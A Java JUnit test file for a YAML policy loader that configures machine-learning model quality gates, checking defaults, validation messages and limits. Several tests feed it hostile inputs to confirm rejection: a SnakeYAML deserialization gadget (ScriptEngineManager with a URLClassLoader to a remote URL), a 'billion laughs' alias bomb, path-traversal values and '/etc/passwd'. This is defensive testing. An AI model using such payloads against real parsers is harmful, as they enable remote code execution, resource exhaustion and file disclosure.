package io.mlgates.core.policy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.fail;
import static org.assertj.core.groups.Tuple.tuple;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import io.mlgates.core.BadInputException;
import io.mlgates.core.metrics.Direction;
import io.mlgates.core.metrics.TaskType;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.OptionalDouble;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class PolicyLoaderTest {
    private static final String FILE = "mlgates.yaml";

    @TempDir
    Path workspace;

    private final PolicyLoader loader = new PolicyLoader();

    private Path repository() throws IOException {
        return Files.createDirectories(workspace.resolve("credit-risk"));
    }

    private LoadedPolicy load(String yaml) throws IOException, BadInputException {
        Path repository = repository();
        Files.writeString(repository.resolve(FILE), yaml);
        return loader.loadFromRepository(repository);
    }

    private PolicyException rejected(String yaml) throws IOException {
        return rejected(yaml.getBytes(StandardCharsets.UTF_8));
    }

    private PolicyException rejected(byte[] content) throws IOException {
        Path repository = repository();
        Files.write(repository.resolve(FILE), content);
        try {
            LoadedPolicy accepted = loader.loadFromRepository(repository);
            return fail("expected the policy to be rejected, got " + accepted);
        } catch (PolicyException e) {
            return e;
        } catch (BadInputException e) {
            return fail("expected a PolicyException", e);
        }
    }

    /** The policy was rejected for exactly this problem, and the message names the file, line and column. */
    private static void assertOnlyProblem(PolicyException e, long line, long column, String message) {
        assertThat(e.problems()).containsExactly(new PolicyProblem(line, column, message));
        String where = line == 0 ? FILE : FILE + ":" + line + ":" + column;
        assertThat(e.getMessage()).isEqualTo(where + ": " + message);
        assertThat(e.file()).isEqualTo(FILE);
        assertThat(e.line()).isEqualTo(line);
        assertThat(e.column()).isEqualTo(column);
    }

    @Nested
    class Defaults {
        @Test
        void aRepositoryWithoutPolicyGetsTheDefaultsNamedAfterItsFolder() throws Exception {
            LoadedPolicy loaded = loader.loadFromRepository(repository());

            assertThat(loaded.policy()).isEqualTo(Policy.defaults("credit-risk"));
            assertThat(loaded.digest()).isEqualTo(LoadedPolicy.EMPTY_DIGEST);
            assertThat(loaded.fileName()).isEmpty();
        }

        @Test
        void aPolicyUnderANearMissNameIsAnErrorNotSilentlyTheDefaults() throws Exception {
            Files.writeString(repository().resolve("mlgates.yml"), "limits: []\n");

            assertThatThrownBy(() -> loader.loadFromRepository(repository()))
                    .isInstanceOf(PolicyException.class)
                    .hasMessage("mlgates.yml: the policy file must be named mlgates.yaml; rename mlgates.yml so that"
                            + " its rules apply");
        }

        @Test
        void anEmptyPolicyFileMeansEveryDefault() throws Exception {
            LoadedPolicy loaded = load("");

            assertThat(loaded.policy()).isEqualTo(Policy.defaults("credit-risk"));
            assertThat(loaded.digest()).isEqualTo(LoadedPolicy.EMPTY_DIGEST);
            assertThat(loaded.fileName()).contains(FILE);
        }

        @Test
        void aPolicyOfOnlyCommentsMeansEveryDefault() throws Exception {
            assertThat(load("# nothing to say yet\n").policy()).isEqualTo(Policy.defaults("credit-risk"));
        }

        @Test
        void keysLeftOutKeepTheirDefaultsAndColumnsNamedInThePolicyBecomeRequired() throws Exception {
            Policy policy = load("""
                    predictions:
                      columns:
                        score: probability
                    """).policy();

            PredictionSource predictions = policy.predictions();
            assertThat(predictions.score()).isEqualTo(Column.named("probability"));
            assertThat(predictions.label()).isEqualTo(Column.byConvention("label"));
            assertThat(predictions.prediction()).isEqualTo(Column.byConvention("prediction"));
            assertThat(predictions.weight()).isEqualTo(Column.byConvention("weight"));
            assertThat(predictions.path()).isEqualTo("eval/predictions.csv");
            assertThat(policy.modelName()).isEqualTo("credit-risk");
            assertThat(policy.limits()).isEmpty();
        }

        @Test
        void aLimitAndASliceTakeTheirDefaults() throws Exception {
            Policy policy = load("""
                    limits:
                      - metric: recall
                        min: 0.6
                    slices:
                      - column: region
                        limits: [{metric: recall, min: 0.5}]
                    """).policy();

            assertThat(policy.limits()).containsExactly(new MetricLimit("recall", OptionalDouble.of(0.6),
                    OptionalDouble.empty(), Severity.FAIL, Judge.ESTIMATE));
            assertThat(policy.slices().get(0).minSize()).isEqualTo(SliceRule.DEFAULT_MIN_SIZE);
        }
    }

    @Nested
    class RoundTrip {
        @Test
        void everyKeySetEndsUpInTheRecords() throws Exception {
            Path repository = repository();
            try (InputStream full = PolicyLoaderTest.class.getResourceAsStream("full-policy.yaml")) {
                Files.copy(full, repository.resolve(FILE));
            }

            Policy policy = loader.loadFromRepository(repository).policy();

            assertThat(policy).isEqualTo(new Policy(
                    "credit-risk-v2",
                    "build/model.onnx",
                    TaskType.BINARY,
                    new PredictionSource("eval/holdout.jsonl", FileFormat.JSONL, '\t', Column.named("defaulted"),
                            Column.named("p_default"), Column.named("predicted"), Column.named("exposure"), "bad",
                            List.of("good", "bad"), 0.35, InvalidRows.DROP, 0.01),
                    0.9,
                    15,
                    Optional.of("eval/reported-metrics.json"),
                    List.of(new MetricLimit("roc_auc", OptionalDouble.of(0.7), OptionalDouble.of(1.0), Severity.WARN,
                                    Judge.BOUND),
                            new MetricLimit("ece", OptionalDouble.empty(), OptionalDouble.of(0.05), Severity.FAIL,
                                    Judge.ESTIMATE)),
                    Optional.of(new Baseline("baseline/metrics.json", List.of(
                            new BaselineComparison("roc_auc", OptionalDouble.of(0.01), OptionalDouble.of(0.02),
                                    OptionalDouble.of(0.001), OptionalDouble.of(0.003),
                                    Optional.of(Direction.HIGHER_IS_BETTER), Severity.WARN),
                            new BaselineComparison("reported.custom_loss", OptionalDouble.of(0.5), OptionalDouble.empty(),
                                    OptionalDouble.empty(), OptionalDouble.empty(),
                                    Optional.of(Direction.LOWER_IS_BETTER), Severity.FAIL)))),
                    List.of(new SliceRule("age_band", 50, List.of(new MetricLimit("recall", OptionalDouble.of(0.6),
                                    OptionalDouble.empty(), Severity.FAIL, Judge.ESTIMATE))),
                            new SliceRule("region", 30, List.of(new MetricLimit("precision",
                                    OptionalDouble.of(0.5), OptionalDouble.empty(), Severity.FAIL, Judge.BOUND)))),
                    EthicsPolicy.defaults(), List.of(), PromotionPolicy.defaults(), Optional.of("Credit Risk 2")));
        }

        @Test
        void yamlNumbersAndBooleansAsClassLabelsBecomeTheirStringForm() throws Exception {
            PredictionSource numbers = load("predictions: {positive: 1, classes: [0, 1]}\n").policy().predictions();
            assertThat(numbers.positive()).isEqualTo("1");
            assertThat(numbers.classes()).containsExactly("0", "1");

            PredictionSource booleans = load("predictions: {positive: true, classes: [false, true]}\n")
                    .policy().predictions();
            assertThat(booleans.positive()).isEqualTo("true");
            assertThat(booleans.classes()).containsExactly("false", "true");
        }

        @Test
        void yesNoOnOffAreLabelsNotBooleans() throws Exception {
            PredictionSource words = load("predictions: {positive: y, classes: [n, y]}\n").policy().predictions();
            assertThat(words.positive()).isEqualTo("y");
            assertThat(words.classes()).containsExactly("n", "y");

            PredictionSource more = load("predictions: {positive: yes, classes: [no, yes]}\n").policy().predictions();
            assertThat(more.positive()).isEqualTo("yes");
        }

        @Test
        void aliasesLetSlicesShareTheTopLevelLimits() throws Exception {
            Policy policy = load("""
                    limits: &common
                      - metric: recall
                        min: 0.6
                    slices:
                      - column: region
                        limits: *common
                    """).policy();

            assertThat(policy.slices().get(0).limits()).isEqualTo(policy.limits());
        }

        @Test
        void theDigestIsTheSha256OfTheFilesBytes() throws Exception {
            LoadedPolicy loaded = load("task: regression\n");

            assertThat(loaded.digest())
                    .isEqualTo("sha256:048280dcb285da3453c78c2978d8674dc1b2d22ecaa85ca9e05b4f420a8dfa1c");
            assertThat(loaded.policy().task()).isEqualTo(TaskType.REGRESSION);
        }

        @Test
        void aByteOrderMarkIsIgnoredButCountsInTheDigest() throws Exception {
            Path repository = repository();
            Files.write(repository.resolve(FILE), new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF, 't', 'a', 's',
                    'k', ':', ' ', 'r', 'e', 'g', 'r', 'e', 's', 's', 'i', 'o', 'n', '\n'});

            LoadedPolicy loaded = loader.loadFromRepository(repository);

            assertThat(loaded.policy().task()).isEqualTo(TaskType.REGRESSION);
            assertThat(loaded.digest())
                    .isNotEqualTo("sha256:048280dcb285da3453c78c2978d8674dc1b2d22ecaa85ca9e05b4f420a8dfa1c");
        }

        @Test
        void aTabIsAValidDelimiter() throws Exception {
            assertThat(load("predictions: {delimiter: \"\\t\"}\n").policy().predictions().delimiter())
                    .isEqualTo('\t');
        }
    }

    @Nested
    class LoadingAGivenFile {
        @Test
        void messagesNameTheFileByItsDisplayName() throws Exception {
            Path file = Files.writeString(workspace.resolve("strict.yaml"), "task: binar\n");

            try {
                loader.load(file, "policies/strict.yaml", "credit-risk");
                fail("expected a PolicyException");
            } catch (PolicyException e) {
                assertThat(e.getMessage()).startsWith("policies/strict.yaml:1:7: task: expected one of");
                assertThat(e.file()).isEqualTo("policies/strict.yaml");
            }
        }

        @Test
        void theDefaultModelNameIsUsedWhenThePolicyNamesNone() throws Exception {
            Path file = Files.writeString(workspace.resolve("strict.yaml"), "task: multiclass\n");

            LoadedPolicy loaded = loader.load(file, "strict.yaml", "fraud");

            assertThat(loaded.policy().modelName()).isEqualTo("fraud");
            assertThat(loaded.fileName()).contains("strict.yaml");
        }

        @Test
        void aMissingFileIsAnErrorNamingIt() {
            try {
                loader.load(workspace.resolve("absent.yaml"), "absent.yaml", "m");
                fail("expected a PolicyException");
            } catch (BadInputException e) {
                assertThat(e).isInstanceOf(PolicyException.class);
                assertThat(e.getMessage()).isEqualTo("absent.yaml: the policy file does not exist");
            }
        }
    }

    @Nested
    class MalformedPolicies {
        @Test
        void aDirectoryNamedLikeThePolicyIsAnError() throws Exception {
            Path repository = repository();
            Files.createDirectory(repository.resolve(FILE));

            try {
                loader.loadFromRepository(repository);
                fail("expected a PolicyException");
            } catch (PolicyException e) {
                assertThat(e.getMessage()).isEqualTo("mlgates.yaml: the policy file is a directory, not a file");
            }
        }

        @Test
        void unknownKeyGetsASuggestionAndTheAllowedKeys() throws Exception {
            PolicyException e = rejected("""
                    task: binary
                    modle:
                      name: credit-risk
                    """);

            assertOnlyProblem(e, 2, 1, "unknown key 'modle'; did you mean 'model'? Allowed keys: version, model,"
                    + " task, predictions, metrics, limits, baseline, data, drift, identity, promotion, slices,"
                    + " schema, ethics, waivers");
        }

        @Test
        void nestedUnknownKeyIsPlacedAtTheKeyAndNamesItsMapping() throws Exception {
            PolicyException e = rejected("""
                    predictions:
                      path: eval/p.csv
                      columns:
                        lable: y
                    """);

            assertOnlyProblem(e, 4, 5, "unknown key 'lable' in predictions.columns; did you mean 'label'? Allowed"
                    + " keys: label, score, prediction, weight");
        }

        @Test
        void unknownKeyInAListItem() throws Exception {
            PolicyException e = rejected("""
                    limits:
                      - metric: recall
                        mim: 0.6
                    """);

            assertThat(e.problems()).contains(new PolicyProblem(3, 5, "unknown key 'mim' in limits[0]; did you mean"
                    + " 'min'? Allowed keys: metric, min, max, severity, judge"));
        }

        @Test
        void unknownKeyWithoutNearMissOnlyListsTheAllowedKeys() throws Exception {
            PolicyException e = rejected("colour: red\n");

            assertOnlyProblem(e, 1, 1, "unknown key 'colour'. Allowed keys: version, model, task, predictions,"
                    + " metrics, limits, baseline, data, drift, identity, promotion, slices, schema, ethics,"
                    + " waivers");
        }

        @Test
        void wrongTypeSaysWhatWasExpected() throws Exception {
            PolicyException e = rejected("""
                    predictions:
                      threshold: high
                    """);

            assertOnlyProblem(e, 2, 14, "predictions.threshold: expected a number, got string 'high'");
        }

        @Test
        void anEmptyValueWhereAMappingBelongsIsAWrongType() throws Exception {
            assertOnlyProblem(rejected("model:\n"), 1, 7, "model: expected a mapping, got an empty value (null)");
        }

        @Test
        void badEnumValueListsTheAllowedValues() throws Exception {
            PolicyException e = rejected("task: binar\n");

            assertOnlyProblem(e, 1, 7, "task: expected one of 'binary', 'multiclass', 'regression', got 'binar';"
                    + " did you mean 'binary'?");
        }

        @Test
        void enumValuesAreLowerCase() throws Exception {
            PolicyException e = rejected("limits: [{metric: recall, min: 0.5, severity: WARN}]\n");

            assertOnlyProblem(e, 1, 47, "limits[0].severity: expected one of 'fail', 'warn', got 'WARN'; did you"
                    + " mean 'warn'?");
        }

        @ParameterizedTest(name = "{0}: {1} -> {4}")
        @CsvSource(delimiter = '|', textBlock = """
                metrics:\\n  confidenceLevel: X    | 1.5  | 2 | 20 | metrics.confidenceLevel: expected a number in (0, 1), got 1.5
                metrics:\\n  confidenceLevel: X    | 0    | 2 | 20 | metrics.confidenceLevel: expected a number in (0, 1), got 0
                metrics:\\n  calibrationBins: X    | 0    | 2 | 20 | metrics.calibrationBins: expected an integer in [1, 1000], got 0
                metrics:\\n  calibrationBins: X    | 1001 | 2 | 20 | metrics.calibrationBins: expected an integer in [1, 1000], got 1001
                predictions:\\n  threshold: X      | -0.1 | 2 | 14 | predictions.threshold: expected a number in [0, 1], got -0.1
                slices:\\n  - column: c\\n    minSize: X\\n    limits: [{metric: f1, min: 0}] | 0 | 3 | 14 | slices[0].minSize: expected an integer in [1, 2147483647], got 0
                baseline:\\n  path: b.json\\n  compare: [{metric: f1, maxDrop: X}] | -0.01 | 3 | 35 | baseline.compare[0].maxDrop: expected a number >= 0, got -0.01
                """)
        void outOfRangeNumberSaysTheRange(String template, String value, long line, long column, String message)
                throws Exception {
            PolicyException e = rejected(template.replace("\\n", "\n").replace("X", value) + "\n");

            assertOnlyProblem(e, line, column, message);
        }

        @Test
        void aVersionOtherThanOneIsRejected() throws Exception {
            assertOnlyProblem(rejected("version: 2\n"), 1, 10, "version: expected 1, got 2");
        }

        @Test
        void missingRequiredKeyIsPlacedAtItsMapping() throws Exception {
            PolicyException e = rejected("""
                    task: binary
                    slices:
                      - minSize: 10
                        limits:
                          - metric: recall
                            min: 0.5
                    """);

            assertOnlyProblem(e, 3, 5, "slices[0]: missing required key 'column'");
        }

        /** A baseline names a file or a stage, exactly one; the problem is placed at its key. */
        @Test
        void baselineNamesAFileOrAStage() throws Exception {
            PolicyException none = rejected("""
                    task: binary
                    baseline:
                      compare:
                        - metric: roc_auc
                          maxDrop: 0.01
                    """);
            assertOnlyProblem(none, 2, 1, "baseline: names no baseline; expected path: FILE (a metrics file) or"
                    + " from: STAGE (the registry's metrics of the version in that stage, such as production)");
            PolicyException both = rejected("""
                    baseline:
                      path: base.json
                      from: production
                    """);
            assertOnlyProblem(both, 1, 1, "baseline: has both path and from; expected one of them");
        }

        @Test
        void limitWithoutMetricIsPlacedAtTheListItem() throws Exception {
            PolicyException e = rejected("""
                    limits:
                      - min: 0.5
                    """);

            assertOnlyProblem(e, 2, 5, "limits[0]: missing required key 'metric'");
        }

        @Test
        void limitNeedsMinOrMax() throws Exception {
            PolicyException e = rejected("""
                    limits:
                      - metric: recall
                        severity: warn
                    """);

            assertOnlyProblem(e, 2, 5, "limits[0]: needs at least one of 'min' or 'max'");
        }

        @Test
        void comparisonNeedsOneOfTheFourMargins() throws Exception {
            PolicyException e = rejected("""
                    baseline:
                      path: baseline/metrics.json
                      compare:
                        - metric: recall
                    """);

            assertOnlyProblem(e, 4, 7, "baseline.compare[0]: needs at least one of 'maxDrop', 'maxRelativeDrop',"
                    + " 'minGain' or 'minRelativeGain'");
        }

        @Test
        void sliceNeedsAtLeastOneLimit() throws Exception {
            PolicyException e = rejected("""
                    slices:
                      - column: region
                        limits: []
                    """);

            assertOnlyProblem(e, 3, 13, "slices[0].limits: expected at least one entry, got none");
        }

        @Test
        void minAboveMaxIsRejectedAtTheMin() throws Exception {
            PolicyException e = rejected("""
                    limits:
                      - metric: roc_auc
                        min: 0.9
                        max: 0.8
                    """);

            assertOnlyProblem(e, 3, 10, "limits[0]: min 0.9 is above max 0.8; min must not be greater than max");
        }

        @Test
        void minAboveMaxInASliceLimit() throws Exception {
            PolicyException e = rejected("""
                    slices:
                      - column: region
                        limits:
                          - {metric: recall, min: 0.9, max: 0.1}
                    """);

            assertOnlyProblem(e, 4, 31, "slices[0].limits[0]: min 0.9 is above max 0.1; min must not be greater"
                    + " than max");
        }

        @Test
        void positiveClassMustBeADeclaredClass() throws Exception {
            PolicyException e = rejected("""
                    predictions:
                      positive: fraud
                      classes: [ok, fraudulent]
                    """);

            assertOnlyProblem(e, 2, 13, "predictions.positive: 'fraud' is not one of the declared classes 'ok',"
                    + " 'fraudulent'");
        }

        @Test
        void theDefaultPositiveClassMustBeADeclaredClass() throws Exception {
            PolicyException e = rejected("""
                    predictions:
                      classes: [good, bad]
                    """);

            assertOnlyProblem(e, 2, 12, "predictions.classes: the positive class is '1' by default and is not among"
                    + " the classes 'good', 'bad'; name it with predictions.positive");
        }

        @Test
        void aBinaryTaskDeclaresExactlyTwoClasses() throws Exception {
            PolicyException e = rejected("""
                    task: binary
                    predictions:
                      classes: ["0", "1", "2"]
                    """);

            assertOnlyProblem(e, 3, 12, "predictions.classes: a binary task needs exactly 2 distinct classes, got 3");
        }

        @Test
        void aMulticlassTaskMayDeclareMoreClasses() throws Exception {
            Policy policy = load("task: multiclass\npredictions: {classes: [a, b, c]}\n").policy();

            assertThat(policy.predictions().classes()).containsExactly("a", "b", "c");
        }

        @Test
        void classesAreDistinctAfterBecomingStrings() throws Exception {
            PolicyException e = rejected("""
                    task: multiclass
                    predictions:
                      classes: [1, "1", 2]
                    """);

            assertOnlyProblem(e, 3, 16, "predictions.classes: class '1' is listed twice (also at"
                    + " predictions.classes[0]); the classes must be distinct");
        }

        @Test
        void duplicateKeysAreEachReported() throws Exception {
            PolicyException e = rejected("""
                    task: binary
                    predictions:
                      path: a.csv
                      path: b.csv
                    task: regression
                    """);

            assertThat(e.problems()).containsExactly(
                    new PolicyProblem(4, 3, "duplicate key 'path' (first at line 3, column 3); each key may appear"
                            + " once in a mapping"),
                    new PolicyProblem(5, 1, "duplicate key 'task' (first at line 1, column 1); each key may appear"
                            + " once in a mapping"));
            assertThat(e.getMessage()).startsWith("mlgates.yaml:4:3: duplicate key 'path'")
                    .contains("\nmlgates.yaml:5:1: duplicate key 'task'");
        }

        @Test
        void customTagIsRejectedAtTheTag() throws Exception {
            PolicyException e = rejected("""
                    task: binary
                    model:
                      name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
                    """);

            assertThat(e.problems()).first().isEqualTo(new PolicyProblem(3, 9, "the tag"
                    + " '!!javax.script.ScriptEngineManager' is not allowed; a policy may use only the standard YAML"
                    + " tags (!!str, !!int, !!float, !!bool, !!null, !!map, !!seq)"));
            assertThat(e.problems()).extracting(PolicyProblem::message).allMatch(m -> m.contains("is not allowed"));
            assertThat(e.getMessage()).startsWith("mlgates.yaml:3:9: the tag '!!javax.script.ScriptEngineManager'");
        }

        @Test
        void billionLaughsIsStoppedEarly() throws Exception {
            String bomb = """
                    a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
                    b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
                    c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
                    d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
                    e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
                    f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
                    g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
                    h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
                    i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
                    """;

            PolicyException e = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> rejected(bomb));

            assertOnlyProblem(e, 6, 8, "the policy has more than 100000 values (counting what aliases expand to);"
                    + " a policy file may not have more");
        }

        @Test
        void tooManyAliasesToListsAreStoppedAtTheFirstOneTooMany() throws Exception {
            StringBuilder yaml = new StringBuilder("limits: &l [{metric: f1, min: 0.5}]\nslices:\n");
            for (int i = 0; i < 60; i++) {
                yaml.append("  - {column: c").append(i).append(", limits: *l}\n");
            }

            PolicyException e = rejected(yaml.toString());

            // the 51st alias, in the slice of c50 on line 53: "  - {column: c50, limits: *l}"
            assertOnlyProblem(e, 53, 27, "more than 50 aliases to lists or mappings; a policy file may not use"
                    + " more");
        }

        @Test
        void oversizedFileIsRejectedByName() throws Exception {
            byte[] content = new byte[PolicyLoader.MAX_FILE_BYTES + 1];
            Arrays.fill(content, (byte) '#');

            PolicyException e = rejected(content);

            assertOnlyProblem(e, 0, 0, "the file is larger than 1048576 bytes (1 MiB), the most a policy file may"
                    + " have");
        }

        @Test
        void aFileOfExactlyTheLimitIsRead() throws Exception {
            byte[] content = new byte[PolicyLoader.MAX_FILE_BYTES];
            Arrays.fill(content, (byte) '#');

            assertThat(load(new String(content, StandardCharsets.US_ASCII)).policy())
                    .isEqualTo(Policy.defaults("credit-risk"));
        }

        @Test
        void syntaxErrorGivesTheParsersLineAndColumn() throws Exception {
            PolicyException e = rejected("""
                    model:
                      name: credit-risk
                     artifacts: model
                    """);

            assertOnlyProblem(e, 3, 2, "invalid YAML: expected <block end>, but found '<block mapping start>'"
                    + " (while parsing a block mapping at line 1, column 1); check the indentation");
        }

        @ParameterizedTest(name = "{0} = {1}")
        @CsvSource(delimiter = '|', textBlock = """
                model:\\n  artifacts: X         | ../other-model                | 2 | 14 | model.artifacts
                predictions:\\n  path: X        | eval/../../secrets.csv        | 2 | 9  | predictions.path
                metrics:\\n  reported: X        | '..\\\\..\\\\x.json'          | 2 | 13 | metrics.reported
                baseline:\\n  path: X           | ./../baseline.json            | 2 | 9  | baseline.path
                """)
        void pathLeavingTheRepositoryIsRejected(String template, String path, long line, long column, String key)
                throws Exception {
            PolicyException e = rejected(template.replace("\\n", "\n").replace("X", path) + "\n");

            assertThat(e.problems()).hasSize(1);
            PolicyProblem problem = e.problems().get(0);
            assertThat(problem.line()).isEqualTo(line);
            assertThat(problem.column()).isEqualTo(column);
            assertThat(problem.message()).startsWith(key + ": ").endsWith("leads out of the model repository; paths"
                    + " in a policy must stay inside it");
            assertThat(e.getMessage()).startsWith(FILE + ":" + line + ":" + column + ": " + key);
        }

        @ParameterizedTest
        @ValueSource(strings = {"/etc/passwd", "'C:\\Users\\model'", "'\\\\server\\share\\model'", "'c:model'"})
        void absolutePathIsRejected(String path) throws Exception {
            PolicyException e = rejected("model:\n  artifacts: " + path + "\n");

            assertThat(e.problems()).hasSize(1);
            assertThat(e.problems().get(0).line()).isEqualTo(2);
            assertThat(e.problems().get(0).column()).isEqualTo(14);
            assertThat(e.problems().get(0).message()).startsWith("model.artifacts: '")
                    .endsWith("' is an absolute path; paths in a policy are relative to the model repository");
            assertThat(e.getMessage()).startsWith("mlgates.yaml:2:14: model.artifacts:");
        }

        @Test
        void pathsThatStayInsideAreAccepted() throws Exception {
            Policy policy = load("model: {artifacts: ./build/../model}\npredictions: {path: eval/./p.csv}\n")
                    .policy();

            assertThat(policy.artifacts()).isEqualTo("./build/../model");
            assertThat(policy.predictions().path()).isEqualTo("eval/./p.csv");
        }

        @Test
        void topLevelListIsNotAPolicy() throws Exception {
            assertOnlyProblem(rejected("- task: binary\n"), 1, 1, "the top level: expected a mapping, got a list");
        }

        @Test
        void topLevelScalarIsNotAPolicy() throws Exception {
            assertOnlyProblem(rejected("just some text\n"), 1, 1,
                    "the top level: expected a mapping, got string 'just some text'");
        }

        @Test
        void delimiterMustBeOneCharacterThatIsNotAQuoteOrLineBreak() throws Exception {
            assertOnlyProblem(rejected("predictions: {delimiter: ';;'}\n"), 1, 26,
                    "predictions.delimiter: expected exactly one character, got ';;'");
            assertOnlyProblem(rejected("predictions: {delimiter: '\"'}\n"), 1, 26,
                    "predictions.delimiter: must not be '\"', '\\n' or '\\r', got '\"'");
        }

        @Test
        void nonFiniteNumberIsRejected() throws Exception {
            assertOnlyProblem(rejected("predictions: {threshold: .nan}\n"), 1, 26,
                    "expected a finite number, got '.nan'");
        }

        @Test
        void invalidUtf8IsRejectedWhereItStarts() throws Exception {
            byte[] content = "task: regression\nmodel:\n  name: caf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1);

            assertOnlyProblem(rejected(content), 3, 12, "the file is not valid UTF-8; a policy file must be UTF-8"
                    + " text");
        }

        @Test
        void everyProblemIsReportedTogetherSortedByPosition() throws Exception {
            PolicyException e = rejected("""
                    version: 2
                    task: binar
                    predictions:
                      threshold: high
                      columns: {lable: y}
                    limits:
                      - metric: recall
                        min: 1
                        max: 0
                    modle: {}
                    """);

            assertThat(e.problems()).extracting(PolicyProblem::line, PolicyProblem::column).containsExactly(
                    tuple(1L, 10L), tuple(2L, 7L), tuple(4L, 14L), tuple(5L, 13L), tuple(8L, 10L), tuple(10L, 1L));
            assertThat(e.getMessage().lines()).hasSize(6).allMatch(line -> line.startsWith("mlgates.yaml:"));
        }
    }
}
